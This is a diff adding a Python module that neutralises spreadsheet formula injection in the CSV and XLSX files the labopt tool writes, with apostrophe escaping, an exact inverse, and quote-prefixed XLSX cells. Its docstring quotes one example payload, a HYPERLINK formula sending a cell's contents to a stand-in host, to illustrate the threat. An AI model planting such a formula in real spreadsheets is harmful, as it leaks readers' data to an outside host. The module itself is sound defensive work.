@@ -1,0 +1,128 @@
+"""Spreadsheet cells that stay text: the one rule against formula injection for every CSV and
+XLSX labopt writes (CLI folders and the service's downloads).
+
+A spreadsheet runs a cell as a formula when its text starts with ``=``, ``+``, ``-`` or ``@``
+(or a tab or carriage return, and some read the full-width ``＝ ＋ － ＠`` too), so a sample id
+such as ``=HYPERLINK("http://x.example/?"&A1,"Click")`` sent by a lab would run on the
+reader's machine. Only text is touched; numbers (negative ones included) stay numbers.
+
+- CSV: such a text cell gets a leading apostrophe (OWASP's advice), ``=1+1`` -> ``'=1+1``.
+  Text that already looks escaped (apostrophes, then a trigger) gets one more, so the escape
+  can be undone exactly: :func:`restore` drops one apostrophe, and labopt's CSV readers apply
+  it, so a file labopt wrote reads back as the text that went in.
+- XLSX: cells are written as typed (text as a string cell, never a formula or a link); risky
+  text keeps its exact value with Excel's "quote prefix" style, as when a user types ``'=``.
+"""
+from __future__ import annotations
+
+import datetime as dt
+import io
+import math
+import os
+import re
+from collections.abc import Mapping
+
+import numpy as np
+import pandas as pd
+import xlsxwriter
+
+# A leading trigger, possibly after blanks (some programs trim them before reading a formula).
+_TRIGGER = r"(?:[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])"
+_RISKY = re.compile(r"'*" + _TRIGGER)
+_ESCAPED = re.compile(r"'+" + _TRIGGER)
+
+XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False,
+                "strings_to_numbers": False}
+
+
+def is_risky(value) -> bool:
+    """True for text a spreadsheet could read as a formula (or an escaped form of such)."""
+    return isinstance(value, str) and _RISKY.match(value) is not None
+
+
+def neutralise(value):
+    """``value`` as safe CSV text: a leading apostrophe on risky text; anything else as is."""
+    return "'" + value if is_risky(value) else value
+
+
+def restore(value):
+    """The inverse of :func:`neutralise` (for text read from a CSV file)."""
+    return value[1:] if isinstance(value, str) and _ESCAPED.match(value) else value
+
+
+def _map_text(df: pd.DataFrame, func) -> pd.DataFrame:
+    """``func`` applied to the header and to every text cell (numbers untouched)."""
+    out = df.copy()
+    out.columns = [func(c) for c in df.columns]
+    for i in range(df.shape[1]):
+        col = df.iloc[:, i]
+        if pd.api.types.is_numeric_dtype(col) or pd.api.types.is_bool_dtype(col) or \
+                pd.api.types.is_datetime64_any_dtype(col):
+            continue
+        out.isetitem(i, col.map(func))
+    return out
+
+
+def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``df`` whose header and text cells are neutralised for a CSV file."""
+    return _map_text(df, neutralise)
+
+
+def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A table read from a CSV file with the escapes of :func:`safe_frame` undone."""
+    return _map_text(df, restore)
+
+
+def write_csv(df: pd.DataFrame, path: str | os.PathLike | None = None, **kwargs) -> str | None:
+    """``df`` as a UTF-8 CSV file without its index (text neutralised); the CSV text when
+    ``path`` is None. Other keyword arguments go to :meth:`pandas.DataFrame.to_csv`."""
+    kwargs.setdefault("index", False)
+    if path is not None:
+        kwargs.setdefault("encoding", "utf-8")
+    return safe_frame(df).to_csv(path, **kwargs)
+
+
+def write_xlsx(target: str | os.PathLike | io.BytesIO, sheets: Mapping[str, pd.DataFrame]
+               ) -> None:
+    """One workbook with a sheet per table (header row, then one row per record): text as
+    string cells (risky text with Excel's quote prefix), numbers, booleans and dates as such,
+    blanks for missing values. ``target``: a path or a binary buffer."""
+    in_memory = not isinstance(target, (str, os.PathLike))
+    with xlsxwriter.Workbook(target, {**XLSX_OPTIONS, "in_memory": in_memory}) as wb:
+        f = {"header": wb.add_format({"bold": True}),
+             "header_quoted": wb.add_format({"bold": True, "quote_prefix": True}),
+             "quoted": wb.add_format({"quote_prefix": True}),
+             "date": wb.add_format({"num_format": "yyyy-mm-dd"}),
+             "datetime": wb.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})}
+        for name, df in sheets.items():
+            ws = wb.add_worksheet(name[:31])
+            for j, c in enumerate(df.columns):
+                text = str(c)
+                ws.write_string(0, j, text, f["header_quoted" if is_risky(text) else "header"])
+            for j in range(df.shape[1]):
+                for i, v in enumerate(df.iloc[:, j].astype(object).tolist(), start=1):
+                    _write_cell(ws, i, j, v, f)
+
+
+def _write_cell(ws, row: int, col: int, v, f: dict) -> None:
+    if v is None or v is pd.NA or v is pd.NaT:
+        return
+    if isinstance(v, (bool, np.bool_)):
+        ws.write_boolean(row, col, bool(v))
+    elif isinstance(v, (int, np.integer)):
+        ws.write_number(row, col, int(v))
+    elif isinstance(v, (float, np.floating)):
+        if math.isnan(v):
+            return
+        if math.isinf(v):           # no such number in a sheet: the text, as pandas writes it
+            ws.write_string(row, col, "inf" if v > 0 else "-inf", f["quoted"] if v < 0 else None)
+        else:
+            ws.write_number(row, col, float(v))
+    elif isinstance(v, (dt.datetime, np.datetime64)):
+        ws.write_datetime(row, col, pd.Timestamp(v).to_pydatetime().replace(tzinfo=None),
+                          f["datetime"])
+    elif isinstance(v, dt.date):
+        ws.write_datetime(row, col, v, f["date"])
+    else:
+        text = v if isinstance(v, str) else str(v)
+        ws.write_string(row, col, text, f["quoted"] if is_risky(text) else None)
